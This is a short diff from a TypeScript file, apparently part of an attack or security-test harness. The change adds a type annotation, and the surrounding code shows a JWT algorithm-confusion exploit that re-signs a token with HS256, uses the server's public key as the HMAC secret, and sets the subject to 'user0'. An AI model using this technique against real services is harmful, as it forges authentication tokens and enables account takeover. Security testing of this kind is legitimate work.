@@ -46,7 +46,7 @@ export const attack: AttackFile = {
     })
     const [key] = Object(keys)
     const secret = createPublicKey({ key, format: 'jwk' }).export({ type: 'spki', format: 'pem' })
-    const accounts = []
+    const accounts: unknown[] = []
     for (const text of [String(secret), String(secret).trimEnd()]) {
       const token = makeJwt(
         { header: { ...header, alg: 'HS256' }, claims: { ...claims, sub: 'user0' } },
